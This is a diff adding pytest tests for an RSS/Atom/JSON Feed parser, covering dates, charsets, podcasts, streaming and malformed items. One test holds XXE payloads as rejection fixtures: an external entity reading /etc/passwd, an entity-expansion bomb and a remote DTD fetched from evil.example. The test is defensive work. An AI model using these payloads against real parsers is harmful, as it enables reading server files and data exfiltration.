@@ -1,6 +1,9 @@
 """Tests for RSS parser."""
 
-from feed import RSSParser, RSSChannel, RSSItem
+import pytest
+
+from common.models.feed import RSSChannel, RSSItem
+from rss_reader.core.parser import RSSParser
 
 
 def test_parse_rss_content():
@@ -215,3 +218,784 @@ def test_centralbank_media_extraction():
             assert media_url.startswith("https://"), f"Invalid media URL: {media_url}"
             # Most should be from cdn4.telesco.pe
             assert "telesco.pe" in media_url or "telegram.org" in media_url
+
+
+def test_html_error_page_is_not_a_feed():
+    """Test that an HTML page served with status 200 gets a descriptive error."""
+    from rss_reader.core.fetcher import NotAFeedError, check_feed_response
+
+    url = "https://rss-bridge.org/bridge01/?action=display&bridge=TelegramBridge"
+    page = """<!DOCTYPE html>
+    <html><head><title>Bridge returned error 404! (12345)</title></head>
+    <body><h1>Channel not found</h1></body></html>"""
+    for headers, body in (
+        ({"Content-Type": "text/html; charset=UTF-8"}, page),
+        ({}, page),
+        ({"content-type": "text/html"}, "Service Unavailable"),
+    ):
+        with pytest.raises(NotAFeedError) as error:
+            check_feed_response(url, headers, body)
+        assert "got an HTML page" in str(error.value)
+    with pytest.raises(NotAFeedError, match="Bridge returned error 404! \\(12345\\)$"):
+        check_feed_response(url, {}, page)
+
+    # Feeds pass, even when served as HTML
+    for body in ('\ufeff<?xml version="1.0"?><rss/>', "<rss><channel/></rss>", "<feed/>"):
+        check_feed_response(url, {"Content-Type": "text/html"}, body)
+    check_feed_response(url, {"Content-Type": "application/rss+xml"}, "  <rss/>")
+
+
+def test_parse_json_feed():
+    """Test parsing a JSON Feed, recognized by its content."""
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    json_feed = """
+    {
+        "version": "https://jsonfeed.org/version/1.1",
+        "title": "Newsletter",
+        "home_page_url": "https://example.com",
+        "language": "ru",
+        "items": [
+            {
+                "id": "1",
+                "url": "https://example.com/posts/1",
+                "content_html": "<p>Концерт</p><img src=\\"https://example.com/a.jpg\\">",
+                "date_published": "2026-01-10T12:00:00+03:00",
+                "attachments": [
+                    {"url": "https://example.com/b.mp4", "mime_type": "video/mp4"},
+                    {"url": "https://example.com/c.mp3", "mime_type": "audio/mpeg"}
+                ]
+            },
+            {"id": "https://example.com/posts/2", "content_text": "Выставка", "image": "x.png"},
+            "not an item"
+        ]
+    }"""
+
+    feed = ReaderParser().parse_content(json_feed)
+
+    assert (feed.title, feed.link, feed.language) == ("Newsletter", "https://example.com", "ru")
+    first, second = feed.items
+    assert first.link == "https://example.com/posts/1"
+    assert "Концерт" in first.description
+    assert first.pub_date == "2026-01-10T12:00:00+03:00"
+    assert first.media_urls == ["https://example.com/b.mp4", "https://example.com/a.jpg"]
+    assert (second.link, second.description, second.media_urls) == (
+        "https://example.com/posts/2",
+        "Выставка",
+        ["https://example.com/x.png"],
+    )
+
+    for content in ('{"title": "No version"}', "{not json"):
+        with pytest.raises(ValueError, match="Invalid JSON Feed"):
+            ReaderParser().parse_content(content)
+
+
+def test_malformed_items_are_skipped():
+    """Test that broken items are skipped with warnings while the rest is parsed."""
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    rss_xml = """<?xml version="1.0" encoding="UTF-8"?>
+    <rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/">
+        <channel>
+            <title>Club</title>
+            <link>https://t.me/s/club</link>
+            <item>
+                <link>https://t.me/club/1</link>
+                <description>Концерт&nbsp;в субботу</description>
+            </item>
+            <item>
+                <link>https://t.me/club/2</link>
+                <description><![CDATA[Выставка]]></description>
+                <media:content url="https://cdn4.telesco.pe/file/2.jpg"/>
+            </item>
+            <item>
+                <link>https://t.me/club/3</link>
+                <description><![CDATA[Лекция]></description>
+            </item>
+        </channel>
+    </rss>"""
+
+    feed = ReaderParser().parse_content(rss_xml)
+
+    assert feed.title == "Club"
+    [item] = feed.items
+    assert item.link == "https://t.me/club/2"
+    assert item.media_urls == ["https://cdn4.telesco.pe/file/2.jpg"]
+    assert [warning.split(":")[0] for warning in feed.warnings] == [
+        "Skipped malformed item 1",
+        "Skipped malformed item 3",
+    ]
+
+    atom_xml = """<feed xmlns="http://www.w3.org/2005/Atom">
+        <title>Atom</title>
+        <entry><link href="https://example.com/1"/><content>a &copy; b</content></entry>
+        <entry><link href="https://example.com/2"/><content>ok</content></entry>
+    </feed>"""
+    feed = ReaderParser().parse_content(atom_xml)
+    assert [item.link for item in feed.items] == ["https://example.com/2"]
+    assert len(feed.warnings) == 1
+
+    with pytest.raises(ValueError, match="Invalid XML format"):
+        ReaderParser().parse_content("<rss><channel><title>A &amp B</title></channel></rss>")
+
+
+def test_fallback_date_formats():
+    """Test that dates in formats other than RFC 822 and ISO 8601 are parsed."""
+    from datetime import datetime
+
+    from common.utils.dates import UnparseableDate, parse_feed_date
+
+    expected = datetime(2026, 1, 10, 12, 0)
+    for value in (
+        "Sat, 10 Jan 2026 12:00:00 GMT",
+        "Sat, 10 Jan 2026 12:00 +0300",
+        "Sat, 10 Jan 2026 12:00:00 +03:00",
+        "2026-01-10T12:00:00Z",
+        "2026-01-10 12:00",
+        "2026/01/10 12:00",
+        "10.01.2026 12:00",
+        "10 January 2026 12:00",
+        "January 10, 2026 12:00",
+        " 10  Jan 2026\n12:00 ",
+    ):
+        assert parse_feed_date(value) == expected, value
+    assert parse_feed_date("Jan 10, 2026") == datetime(2026, 1, 10)
+
+    with pytest.raises(UnparseableDate) as error:
+        parse_feed_date("вчера")
+    assert error.value.value == "вчера"
+
+
+def test_unparseable_dates_skip_items_unless_lenient():
+    """Test that an item with an unknown date is skipped, or kept without a date."""
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    rss_xml = """<rss><channel><title>Club</title>
+        <item><link>https://t.me/club/1</link><pubDate>вчера</pubDate></item>
+        <item><link>https://t.me/club/2</link><pubDate>10.01.2026 12:00</pubDate></item>
+    </channel></rss>"""
+
+    feed = ReaderParser().parse_content(rss_xml)
+    assert [item.link for item in feed.items] == ["https://t.me/club/2"]
+    assert feed.warnings == ["Skipped item 1: Unable to parse datetime from: вчера"]
+
+    feed = ReaderParser(strict_dates=False).parse_content(rss_xml)
+    assert [item.pub_date for item in feed.items] == [None, "10.01.2026 12:00"]
+    assert feed.warnings == ["Item 1 kept without a date: Unable to parse datetime from: вчера"]
+
+
+def test_relative_urls_are_resolved():
+    """Test that relative item links and images are resolved against the channel link."""
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    rss_xml = """<rss xmlns:media="http://search.yahoo.com/mrss/"><channel>
+        <title>Theatre</title>
+        <link>https://theatre.example/news/</link>
+        <item>
+            <link>2026/premiere.html</link>
+            <description><![CDATA[<img src="/img/poster.jpg"> Премьера]]></description>
+            <media:content url="//cdn.example/poster.jpg"/>
+        </item>
+        <item><link>https://other.example/post</link><description>Гастроли</description></item>
+    </channel></rss>"""
+
+    first, second = ReaderParser().parse_content(rss_xml).items
+    assert first.link == "https://theatre.example/news/2026/premiere.html"
+    assert first.media_urls == [
+        "https://cdn.example/poster.jpg",
+        "https://theatre.example/img/poster.jpg",
+    ]
+    assert second.link == "https://other.example/post"
+
+    # Without an absolute channel link, the feed URL is the base
+    rss_xml = rss_xml.replace("https://theatre.example/news/", "/news/")
+    feed = ReaderParser().parse_content(rss_xml, base_url="https://theatre.example/feed.xml")
+    assert feed.link == "https://theatre.example/news/"
+    assert feed.items[0].link == "https://theatre.example/news/2026/premiere.html"
+    assert ReaderParser().parse_content(rss_xml).items[0].link == "2026/premiere.html"
+
+
+def test_entity_declarations_are_rejected():
+    """Test that feeds declaring entities (XXE, entity expansion) are not parsed."""
+    from rss_reader.core import parser as reader_parser
+
+    for doctype in (
+        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
+        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>',
+    ):
+        rss_xml = f"""<?xml version="1.0"?>{doctype}
+        <rss><channel><title>&xxe;</title></channel></rss>"""
+        with pytest.raises(reader_parser.UnsafeXMLError, match="entity"):
+            reader_parser.RSSParser().parse_content(rss_xml)
+
+    # A plain DOCTYPE is fine
+    rss_xml = """<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
+        "http://my.netscape.com/publish/formats/rss-0.91.dtd">
+        <rss><channel><title>Old</title></channel></rss>"""
+    assert reader_parser.RSSParser().parse_content(rss_xml).title == "Old"
+
+    huge = "<rss><channel><title>" + "x" * reader_parser.MAX_DOCUMENT_LENGTH + "</title>"
+    with pytest.raises(reader_parser.UnsafeXMLError, match="too large"):
+        reader_parser.RSSParser().parse_content(huge + "</channel></rss>")
+
+
+def test_legacy_cyrillic_charsets():
+    from rss_reader.core.fetcher import decode_feed
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    for encoding in ("windows-1251", "koi8-r"):
+        document = f"""<?xml version="1.0" encoding="{encoding}"?>
+        <rss version="2.0"><channel>
+            <title>Афиша</title>
+            <item>
+                <link>https://example.com/1</link>
+                <description>Концерт в субботу</description>
+            </item>
+        </channel></rss>""".encode(encoding)
+        feed = ReaderParser().parse_content(document)
+        assert (feed.title, feed.items[0].description) == ("Афиша", "Концерт в субботу")
+
+        # The charset of the response wins over the declaration; ISO-8859-1 isn't assumed
+        assert "Афиша" in decode_feed(document, {"Content-Type": "text/xml"})
+        headers = {"Content-Type": f"application/rss+xml; charset={encoding.upper()}"}
+        assert "Афиша" in decode_feed(document.replace(encoding.encode(), b"utf-8"), headers)
+
+    assert decode_feed("<rss>Афиша</rss>".encode("utf-16")) == "<rss>Афиша</rss>"
+    unknown = {"Content-Type": "text/xml; charset=x-unknown"}
+    assert decode_feed("<rss>Афиша</rss>".encode(), unknown) == "<rss>Афиша</rss>"
+
+
+def test_parse_rdf_feed():
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    rdf_xml = """<?xml version="1.0" encoding="UTF-8"?>
+    <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
+        xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"
+        xmlns:content="http://purl.org/rss/1.0/modules/content/">
+        <channel rdf:about="https://university.example/news">
+            <title>Новости университета</title>
+            <link>https://university.example/</link>
+            <description>Лекции и семинары</description>
+            <dc:language>ru</dc:language>
+            <items><rdf:Seq>
+                <rdf:li rdf:resource="https://university.example/news/1"/>
+            </rdf:Seq></items>
+        </channel>
+        <item rdf:about="https://university.example/news/1">
+            <title>Открытая лекция</title>
+            <link>/news/1</link>
+            <description>Кратко</description>
+            <content:encoded><![CDATA[<p>Лекция <img src="/img/1.jpg"></p>]]></content:encoded>
+            <dc:date>2026-03-01T18:00:00+03:00</dc:date>
+        </item>
+        <item rdf:about="https://university.example/news/2">
+            <description>Семинар &broken; в пятницу</description>
+        </item>
+        <item rdf:about="https://university.example/news/3">
+            <description>Семинар в пятницу</description>
+        </item>
+    </rdf:RDF>"""
+
+    feed = ReaderParser().parse_content(rdf_xml)
+    assert (feed.title, feed.link, feed.language) == (
+        "Новости университета",
+        "https://university.example/",
+        "ru",
+    )
+    assert [(i.link, i.description, i.pub_date) for i in feed.items] == [
+        ("https://university.example/news/1", "Лекция", "2026-03-01T18:00:00+03:00"),
+        ("https://university.example/news/3", "Семинар в пятницу", None),
+    ]
+    assert feed.items[0].media_urls == ["https://university.example/img/1.jpg"]
+    assert [warning.split(":")[0] for warning in feed.warnings] == ["Skipped malformed item 2"]
+
+    # RSS 0.90 only differs by its namespace
+    legacy = rdf_xml.replace("http://purl.org/rss/1.0/", "http://my.netscape.com/rdf/simple/0.9/")
+    assert len(ReaderParser().parse_content(legacy).items) == 2
+
+
+def test_parse_item_categories():
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    rss_xml = """<?xml version="1.0"?>
+    <rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">
+        <channel><title>Афиша</title><link>https://city.example/</link><description/>
+            <item>
+                <link>https://city.example/1</link><description>Концерт</description>
+                <category>Концерты</category>
+                <category domain="https://city.example/tags"> Джаз
+                    вечером </category>
+                <category>Концерты</category>
+                <category/>
+                <dc:subject>Музыка</dc:subject>
+            </item>
+            <item><link>https://city.example/2</link><description>Лекция</description></item>
+        </channel>
+    </rss>"""
+    feed = ReaderParser().parse_content(rss_xml)
+    assert [item.categories for item in feed.items] == [
+        ["Концерты", "Джаз вечером", "Музыка"],
+        [],
+    ]
+
+    atom_xml = """<?xml version="1.0"?>
+    <feed xmlns="http://www.w3.org/2005/Atom"><title>Афиша</title>
+        <entry>
+            <link href="https://city.example/3"/><content>Выставка</content>
+            <category term="art" label="Искусство"/>
+            <category term="kids"/>
+        </entry>
+    </feed>"""
+    assert ReaderParser().parse_content(atom_xml).items[0].categories == ["Искусство", "kids"]
+
+    json_feed = """{"version": "https://jsonfeed.org/version/1.1", "title": "Афиша",
+        "items": [{"url": "https://city.example/4", "content_text": "Спектакль",
+                   "tags": ["Театр", 5, "театр", "Театр"]}]}"""
+    assert ReaderParser().parse_content(json_feed).items[0].categories == ["Театр", "театр"]
+
+
+def test_parse_item_guid_author_and_comments():
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    rss_xml = """<?xml version="1.0"?>
+    <rss version="2.0"><channel><title>Афиша</title><link>https://city.example/</link>
+        <description/>
+        <item>
+            <link>https://city.example/posts/concert</link><description>Концерт</description>
+            <guid isPermaLink="false"> urn:city:17 </guid>
+            <author>afisha@city.example (Редакция)</author>
+            <comments>/posts/concert#comments</comments>
+        </item>
+        <item>
+            <description>Лекция</description><guid>https://city.example/posts/18</guid>
+        </item>
+        <item><link>https://city.example/posts/19</link><description>Встреча</description></item>
+    </channel></rss>"""
+    items = ReaderParser().parse_content(rss_xml, base_url="https://city.example/rss").items
+    assert [(i.guid, i.guid_is_permalink, i.link) for i in items] == [
+        ("urn:city:17", False, "https://city.example/posts/concert"),
+        ("https://city.example/posts/18", True, "https://city.example/posts/18"),
+        (None, False, "https://city.example/posts/19"),
+    ]
+    assert items[0].author == "afisha@city.example (Редакция)"
+    assert items[0].comments == "https://city.example/posts/concert#comments"
+    assert [item.id() for item in items] == [
+        "urn:city:17",
+        "https://city.example/posts/18",
+        "https://city.example/posts/19",
+    ]
+
+    atom_xml = """<?xml version="1.0"?>
+    <feed xmlns="http://www.w3.org/2005/Atom"><title>Афиша</title>
+        <entry>
+            <id>tag:city.example,2026:20</id><content>Выставка</content>
+            <link href="https://city.example/posts/20"/>
+            <link rel="replies" href="https://city.example/posts/20/comments"/>
+            <author><name>Анна</name></author>
+        </entry>
+    </feed>"""
+    entry = ReaderParser().parse_content(atom_xml).items[0]
+    assert (entry.id(), entry.author, entry.comments) == (
+        "tag:city.example,2026:20",
+        "Анна",
+        "https://city.example/posts/20/comments",
+    )
+
+    json_feed = """{"version": "https://jsonfeed.org/version/1.1", "title": "Афиша",
+        "items": [{"id": 21, "url": "https://city.example/posts/21", "content_text": "Спектакль",
+                   "authors": [{"name": "Театр"}, {"url": "https://theatre.example"}]}]}"""
+    item = ReaderParser().parse_content(json_feed).items[0]
+    assert (item.id(), item.author) == ("21", "Театр")
+
+
+def test_parse_websub_links():
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    rss_xml = """<?xml version="1.0"?>
+    <rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel>
+        <title>Блог</title><link>https://blog.example/</link><description/>
+        <atom:link rel="self" type="application/rss+xml" href="https://blog.example/feed/"/>
+        <atom:link rel="hub" href="https://pubsubhubbub.appspot.com/"/>
+        <atom:link rel="hub" href="https://websub.example/hub"/>
+        <item><link>https://blog.example/1</link><description>Концерт</description></item>
+    </channel></rss>"""
+    feed = ReaderParser().parse_content(rss_xml)
+    assert feed.self_url == "https://blog.example/feed/"
+    assert feed.hubs == ["https://pubsubhubbub.appspot.com/", "https://websub.example/hub"]
+    assert feed.to_dict()["hubs"] == feed.hubs
+
+    atom_xml = """<?xml version="1.0"?>
+    <feed xmlns="http://www.w3.org/2005/Atom"><title>Блог</title>
+        <link rel="self" href="https://blog.example/atom"/>
+        <link rel="hub" href="https://websub.example/hub"/>
+        <link href="https://blog.example/"/>
+        <entry><link href="https://blog.example/2"/><content>Лекция</content></entry>
+    </feed>"""
+    feed = ReaderParser().parse_content(atom_xml)
+    assert (feed.link, feed.self_url, feed.hubs) == (
+        "https://blog.example/",
+        "https://blog.example/atom",
+        ["https://websub.example/hub"],
+    )
+
+    json_feed = """{"version": "https://jsonfeed.org/version/1.1", "title": "Блог",
+        "feed_url": "https://blog.example/feed.json",
+        "hubs": [{"type": "WebSub", "url": "https://websub.example/hub"}, {"type": "rssCloud"}],
+        "items": []}"""
+    feed = ReaderParser().parse_content(json_feed)
+    assert (feed.self_url, feed.hubs) == (
+        "https://blog.example/feed.json",
+        ["https://websub.example/hub"],
+    )
+
+    plain = ReaderParser().parse_content(rss_xml.replace("atom:link", "atom:other"))
+    assert (plain.self_url, plain.hubs) == (None, [])
+
+
+def test_parse_dublin_core_date_and_creator():
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    rss_xml = """<?xml version="1.0"?>
+    <rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">
+        <channel><title>Блог</title><link>https://blog.example/</link><description/>
+            <item>
+                <link>https://blog.example/concert</link><description>Концерт</description>
+                <dc:creator><![CDATA[ Анна ]]></dc:creator>
+                <dc:creator>Борис</dc:creator>
+                <dc:date>2026-03-01T18:00:00+03:00</dc:date>
+            </item>
+            <item>
+                <link>https://blog.example/lecture</link><description>Лекция</description>
+                <pubDate>Mon, 02 Mar 2026 10:00:00 +0000</pubDate>
+                <author>editor@blog.example</author>
+                <dc:creator>Анна</dc:creator>
+                <dc:date>2026-01-01T00:00:00Z</dc:date>
+            </item>
+        </channel>
+    </rss>"""
+    items = ReaderParser().parse_content(rss_xml).items
+    assert [(item.pub_date, item.author) for item in items] == [
+        ("2026-03-01T18:00:00+03:00", "Анна, Борис"),
+        ("Mon, 02 Mar 2026 10:00:00 +0000", "editor@blog.example"),
+    ]
+
+    rdf_xml = """<?xml version="1.0"?>
+    <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
+             xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
+        <channel rdf:about="https://blog.example/"><title>Блог</title></channel>
+        <item rdf:about="https://blog.example/concert">
+            <title>Концерт</title><link>https://blog.example/concert</link>
+            <dc:creator>Анна</dc:creator>
+        </item>
+    </rdf:RDF>"""
+    assert ReaderParser().parse_content(rdf_xml).items[0].author == "Анна"
+
+
+def test_parse_podcast_episode():
+    from common.models.feed import PodcastEpisode
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    rss_xml = """<?xml version="1.0"?>
+    <rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
+        <channel><title>Городской подкаст</title><link>https://podcast.example/</link>
+            <description/>
+            <item>
+                <link>https://podcast.example/12</link><description>Анонс фестиваля</description>
+                <enclosure url="/audio/12.mp3" type="audio/mpeg" length="1024"/>
+                <itunes:duration>1:02:03</itunes:duration>
+                <itunes:image href="https://podcast.example/12.jpg"/>
+                <itunes:season>2</itunes:season>
+                <itunes:episode>12</itunes:episode>
+                <itunes:episodeType>Full</itunes:episodeType>
+                <itunes:title>Фестиваль</itunes:title>
+                <itunes:explicit>no</itunes:explicit>
+            </item>
+            <item>
+                <link>https://podcast.example/13</link><description>Трейлер</description>
+                <itunes:duration>95</itunes:duration>
+                <itunes:episode>soon</itunes:episode>
+            </item>
+            <item><link>https://podcast.example/news</link><description>Новости</description></item>
+        </channel>
+    </rss>"""
+    items = ReaderParser().parse_content(rss_xml).items
+    assert items[0].podcast == PodcastEpisode(
+        duration=3723,
+        image="https://podcast.example/12.jpg",
+        season=2,
+        episode=12,
+        episode_type="full",
+        title="Фестиваль",
+        explicit=False,
+        audio_url="https://podcast.example/audio/12.mp3",
+    )
+    assert items[0].media_urls == ["https://podcast.example/12.jpg"]
+    assert items[1].podcast == PodcastEpisode(duration=95)
+    assert items[2].podcast is None
+
+
+def test_parse_stream():
+    import io
+
+    from rss_reader.core import parser as reader_parser
+
+    items = "".join(
+        f"<item><link>/events/{n}</link><description>Событие {n}</description></item>"
+        for n in range(1, 6)
+    )
+    rss_xml = f"""<?xml version="1.0" encoding="utf-8"?>
+    <rss><channel><title>Афиша</title><link>/</link>{items}
+        <item><link>/events/6</link><pubDate>someday</pubDate></item>
+        <language>ru</language>
+    </channel></rss>"""
+    base_url = "https://afisha.example/feed.xml"
+    parser = reader_parser.RSSParser()
+    expected = parser.parse_content(rss_xml, base_url=base_url)
+
+    streamed = []
+    feed = parser.parse_stream(
+        io.BytesIO(rss_xml.encode()), streamed.append, base_url=base_url, chunk_size=64
+    )
+    assert streamed == expected.items
+    assert streamed[0].link == "https://afisha.example/events/1"
+    assert (feed.title, feed.link, feed.language) == ("Афиша", "https://afisha.example/", "ru")
+    assert feed.items == []
+    assert feed.warnings == expected.warnings
+
+    # The handler stops the parsing; the rest of the document isn't read
+    seen = []
+
+    def take_two(item):
+        seen.append(item.link)
+        return len(seen) < 2
+
+    source = io.StringIO(rss_xml + "<garbage")
+    parser.parse_stream(source, take_two, base_url=base_url, chunk_size=64)
+    assert seen == ["https://afisha.example/events/1", "https://afisha.example/events/2"]
+    assert source.tell() < len(rss_xml)
+
+    atom_xml = """<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom</title>
+        <entry><title>Один</title><link href="https://atom.example/1"/></entry>
+    </feed>"""
+    streamed = []
+    assert parser.parse_stream(io.StringIO(atom_xml), streamed.append).title == "Atom"
+    assert [item.link for item in streamed] == ["https://atom.example/1"]
+
+    for document, error in (
+        ('<!DOCTYPE rss [<!ENTITY a "aaaa">]><rss><channel/></rss>', reader_parser.UnsafeXMLError),
+        ("<rss><channel><item><link>x</link></channel></rss>", ValueError),
+        ("<html><body/></html>", ValueError),
+    ):
+        with pytest.raises(error):
+            parser.parse_stream(io.StringIO(document), streamed.append)
+
+
+def test_lenient_parsing_repairs_feeds():
+    from rss_reader.core.parser import RSSParser as ReaderParser, repair_references
+
+    rss_xml = """<rss><channel><title>Музыка & театр</title>
+        <item><guid>1</guid><link>https://t.me/club/1</link>
+            <description>Концерт&nbsp;в субботу &copy; клуб</description></item>
+        <item><guid>2</guid><link>https://t.me/club/2</link>
+            <description><![CDATA[Tom & Jerry &amp; co]]></description>
+            <pubDate>вчера</pubDate></item>
+        <item><guid>1</guid><link>https://t.me/club/1?edit</link></item>
+    </channel></rss>"""
+
+    with pytest.raises(ValueError, match="Invalid XML format"):
+        ReaderParser().parse_content(rss_xml)
+
+    feed = ReaderParser(lenient=True).parse_content(rss_xml)
+    assert feed.title == "Музыка & театр"
+    first, second = feed.items
+    assert first.description == "Концерт\xa0в субботу © клуб"
+    assert second.description == "Tom & Jerry & co"
+    assert second.pub_date is None
+    assert feed.warnings == [
+        "Replaced 2 HTML entities",
+        "Escaped 1 bare ampersands",
+        "Item 2 kept without a date: Unable to parse datetime from: вчера",
+        "Skipped an item repeating the guid 1",
+    ]
+
+    assert repair_references("<a>&lt;&#1;&#x1F;&unknown; &LT; &<![CDATA[&nbsp; &]]></a>") == (
+        "<a>&lt;&#1;&#x1F;&amp;unknown; &lt; &amp;<![CDATA[&nbsp; &]]></a>",
+        ["Replaced 1 HTML entities", "Escaped 2 bare ampersands"],
+    )
+
+
+def test_parse_options():
+    import io
+
+    from rss_reader.core.parser import ParseOptions, RSSParser as ReaderParser
+
+    items = "".join(
+        f"<item><link>https://t.me/club/{n}</link><description>Событие {n}</description></item>"
+        for n in range(1, 5)
+    )
+    rss_xml = f"""<rss><channel><title>Клуб</title><link>https://t.me/s/club</link>{items}
+        <item><link>https://t.me/club/5</link><pubDate>someday</pubDate></item>
+    </channel></rss>"""
+
+    with pytest.raises(ValueError, match="Invalid item 5: Unable to parse datetime"):
+        ReaderParser(options=ParseOptions(strict=True)).parse_content(rss_xml)
+    with pytest.raises(ValueError, match="Invalid XML format"):
+        ReaderParser(options=ParseOptions(strict=True)).parse_content(
+            rss_xml.replace("Событие 2", "<![CDATA[broken]>")
+        )
+    with pytest.raises(ValueError, match="both lenient and strict"):
+        ReaderParser(lenient=True, options=ParseOptions(strict=True))
+
+    parser = ReaderParser(options=ParseOptions(max_items=2))
+    feed = parser.parse_content(rss_xml)
+    assert [item.link for item in feed.items] == ["https://t.me/club/1", "https://t.me/club/2"]
+    assert feed.warnings == ["Kept the first 2 items"]
+    streamed = []
+    feed = parser.parse_stream(io.StringIO(rss_xml), streamed.append, chunk_size=64)
+    assert streamed == parser.parse_content(rss_xml).items
+    assert feed.warnings == ["Kept the first 2 items"]
+
+    long_xml = f"""<rss><channel><title>{"Клуб" * 10}</title><link>https://t.me/s/club</link>
+        <item><link>https://t.me/club/1</link><title>Джазовый вечер в парке</title>
+            <description>Концерт в субботу</description><category>джаз и блюз</category>
+            <enclosure url="https://cdn4.telesco.pe/file/very-long-name.jpg" type="image/jpeg"/>
+        </item>
+        <item><link>https://t.me/club/2?{"x" * 40}</link><description>Лекция</description></item>
+    </channel></rss>"""
+    feed = ReaderParser(options=ParseOptions(max_field_length=20)).parse_content(long_xml)
+    assert feed.title == ("Клуб" * 10)[:20]
+    [item] = feed.items
+    assert (item.title, item.description) == ("Джазовый вечер в пар", "Концерт в субботу")
+    assert item.categories == ["джаз и блюз"]
+    assert item.media_urls == []
+    assert feed.warnings == [
+        "Cut the title of item 1 to 20 characters",
+        "Skipped item 2: link longer than 20 characters",
+    ]
+
+
+def test_parse_items_since():
+    from datetime import datetime
+
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    rss_xml = """<rss><channel><title>Клуб</title><link>https://t.me/s/club</link>
+        <item><link>https://t.me/club/3</link><pubDate>Sat, 10 Jan 2026 18:00:00 +0000</pubDate>
+        </item>
+        <item><link>https://t.me/club/2</link></item>
+        <item><link>https://t.me/club/1</link><pubDate>Thu, 08 Jan 2026 09:00:00 +0000</pubDate>
+        </item>
+    </channel></rss>"""
+    parser = ReaderParser(strict_dates=False)
+    since = datetime(2026, 1, 9)
+
+    feed = parser.parse_content(rss_xml, since=since)
+    # Undated items are kept, they may be new
+    assert [item.link for item in feed.items] == ["https://t.me/club/3", "https://t.me/club/2"]
+    assert [item.link for item in parser.parse_content(rss_xml, limit=1).items] == [
+        "https://t.me/club/3"
+    ]
+
+    feed = parser.parse_content(rss_xml)
+    assert len(feed.items) == 3
+    assert feed.items_since(since, limit=1) == feed.items[:1]
+    assert feed.items_since(datetime(2026, 1, 11)) == [feed.items[1]]
+    assert feed.items_since() == feed.items
+
+
+def test_parse_poll_hints():
+    from datetime import datetime, timedelta, timezone
+
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    rss_xml = """<rss><channel><title>Афиша</title><link>https://afisha.example/</link>
+        <ttl> 120 </ttl>
+        <skipHours><hour>0</hour><hour>1</hour><hour>24</hour><hour>99</hour></skipHours>
+        <skipDays><day>sunday</day><day>Someday</day></skipDays>
+    </channel></rss>"""
+    feed = ReaderParser().parse_content(rss_xml)
+    assert (feed.ttl, feed.skip_hours, feed.skip_days) == (120, [0, 1], ["Sunday"])
+
+    hour = timedelta(hours=1)
+    # Saturday, the ttl is longer than the usual interval
+    assert feed.suggested_poll_interval(datetime(2026, 1, 10, 12, 0), hour) == 2 * hour
+    assert feed.suggested_poll_interval(datetime(2026, 1, 10, 12, 0), 3 * hour) == 3 * hour
+    # Late on Saturday the next poll waits until Monday 02:00 UTC
+    assert feed.suggested_poll_interval(datetime(2026, 1, 10, 22, 30), hour) == timedelta(
+        hours=27, minutes=30
+    )
+    moscow = timezone(timedelta(hours=3))
+    assert feed.suggested_poll_interval(
+        datetime(2026, 1, 11, 1, 30, tzinfo=moscow), hour
+    ) == timedelta(hours=27, minutes=30)
+
+    plain = ReaderParser().parse_content("<rss><channel><title>A</title></channel></rss>")
+    assert (plain.ttl, plain.skip_hours, plain.skip_days) == (None, [], [])
+    assert plain.suggested_poll_interval(datetime(2026, 1, 10), hour) == hour
+    plain.skip_hours = list(range(24))
+    assert plain.suggested_poll_interval(datetime(2026, 1, 10), hour) == hour
+
+
+def test_parse_channel_image_and_language():
+    from common.models.feed import ChannelImage
+    from rss_reader.core.parser import RSSParser as ReaderParser
+
+    parser = ReaderParser()
+    rss_xml = """<rss><channel><title>Клуб</title><link>https://club.example/</link>
+        <language>ru-RU</language>
+        <image><url>/logo.png</url><title>Клуб</title><link>https://club.example/</link>
+            <width>144</width><height> 64 </height></image>
+    </channel></rss>"""
+    feed = parser.parse_content(rss_xml)
+    assert feed.language == "ru-RU"
+    assert feed.image == ChannelImage(
+        url="https://club.example/logo.png",
+        title="Клуб",
+        link="https://club.example/",
+        width=144,
+        height=64,
+    )
+
+    podcast_xml = """<rss xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"><channel>
+        <title>Подкаст</title><itunes:image href="https://cdn.example/cover.jpg"/>
+    </channel></rss>"""
+    assert parser.parse_content(podcast_xml).image == ChannelImage(
+        url="https://cdn.example/cover.jpg"
+    )
+
+    atom_xml = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">
+        <title>Atom</title><link href="https://atom.example/"/>
+        <icon>/favicon.ico</icon><logo>/logo.svg</logo>
+    </feed>"""
+    feed = parser.parse_content(atom_xml)
+    assert feed.language == "en"
+    assert feed.image == ChannelImage(url="https://atom.example/logo.svg", title="Atom")
+
